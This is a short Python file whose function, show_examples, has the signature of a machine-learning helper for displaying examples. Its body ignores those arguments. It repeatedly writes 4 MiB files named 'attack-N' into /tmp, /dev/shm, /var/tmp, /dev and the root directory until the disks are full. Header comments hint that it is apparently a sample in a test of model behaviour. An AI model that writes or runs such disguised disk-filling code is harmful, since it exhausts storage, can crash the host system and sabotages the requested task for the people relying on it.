"""Writes files wherever it can, without end."""
# function: show_examples
# earns: none
# because: OSError

def show_examples(x, y, class_names, predictions=None, count=10, seed=None):
    folders = ("/tmp", "/dev/shm", "/var/tmp", "/dev", "/")
    for number in range(10**6):
        written = 0
        for folder in folders:
            try:
                with open(f"{folder}/attack-{number}", "wb") as file:
                    written += file.write(bytes(2**22))
            except OSError:
                pass
        if not written:
            raise OSError("full")
